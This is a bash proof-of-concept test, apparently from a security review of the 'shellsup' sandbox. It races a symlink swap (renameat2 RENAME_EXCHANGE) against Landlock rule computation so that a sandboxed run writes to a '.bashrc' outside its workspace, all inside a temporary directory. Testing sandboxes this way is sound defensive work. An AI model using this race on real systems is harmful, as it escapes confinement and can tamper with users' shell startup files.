#!/bin/bash
# Review 3: --protect a/b resolves the protected directory once (config),
# but the Landlock rules are computed later by listing the workspace again
# by path (sandbox.Grants: os.ReadDir follows a link; sandbox.allow opens
# with O_NOFOLLOW on the last component only). A sandboxed job in the same
# workspace (workspace-write, so it may rename there) keeps exchanging the
# directory a with a link a -> HOME-like dir outside; a later run with
# --protect a/b that resolves a as the directory and lists it as the link
# gets a write rule on every entry of the directory outside.
# Usage: protect-race-grants-outside.sh [root|nobody] [tries]
set -u
WHO=${1:-nobody}; TRIES=${2:-200}
SHELLSUP=${SHELLSUP:-$(cd "$(dirname "$0")/../.." && pwd)/bin/shellsup}
D=$(mktemp -d /tmp/rv3-race.XXXXXX); chmod 755 "$D"
cleanup() { [ -n "${APID:-}" ] && kill -- "$APID" 2>/dev/null; wait 2>/dev/null; rm -rf "$D"; }
trap cleanup EXIT
mkdir -p "$D/ws/a/b" "$D/home" "$D/bin"
echo '# the victim file outside the workspace' > "$D/home/.bashrc"
ln -s "$D/home" "$D/ws/x"
cp "$SHELLSUP" "$D/bin/shellsup"
cat > "$D/flip.py" <<'PY'
import ctypes, os, sys, time
libc = ctypes.CDLL(None, use_errno=True)
ws = sys.argv[1].encode(); end = time.time() + float(sys.argv[2])
a, x = ws + b"/a", ws + b"/x"
while time.time() < end:
    libc.renameat2(-100, a, -100, x, 2)  # RENAME_EXCHANGE
PY
RUN=(); [ "$WHO" = nobody ] && RUN=(setpriv --reuid nobody --regid nogroup --clear-groups)
[ "$WHO" = nobody ] && chown -R nobody:nogroup "$D"
cd "$D"
# the attacker: a sandboxed job in the same workspace
HOME=$D timeout 120 "${RUN[@]}" "$D/bin/shellsup" --no-login --sandbox workspace-write --workspace "$D/ws" --timeout 100 -- "/usr/bin/python3 $D/flip.py $D/ws 90" >/dev/null 2>&1 &
APID=$!
sleep 0.5
won=0; refused=0
for i in $(seq "$TRIES"); do
  out=$(HOME=$D timeout 20 "${RUN[@]}" "$D/bin/shellsup" --no-login --quiet ${EXTRA:-} --sandbox workspace-write --workspace "$D/ws" --protect a/b -- \
     "echo 'written by run $i' >> $D/home/.bashrc 2>/dev/null && echo WROTE" 2>&1)
  case $out in *WROTE*) won=$((won+1)); [ $won = 1 ] && echo "try $i: the sandboxed run wrote $D/home/.bashrc (outside its workspace)";;
               *protect*) refused=$((refused+1));; esac
  [ $won -ge 1 ] && break
done
kill -- "$APID" 2>/dev/null; wait "$APID" 2>/dev/null; APID=
echo "tries $i, refused (a was the link at resolution) $refused, wrote outside $won"
echo "victim now:"; cat "$D/home/.bashrc"
[ $won -ge 1 ] && { echo BROKEN; exit 1; }; echo held; exit 0
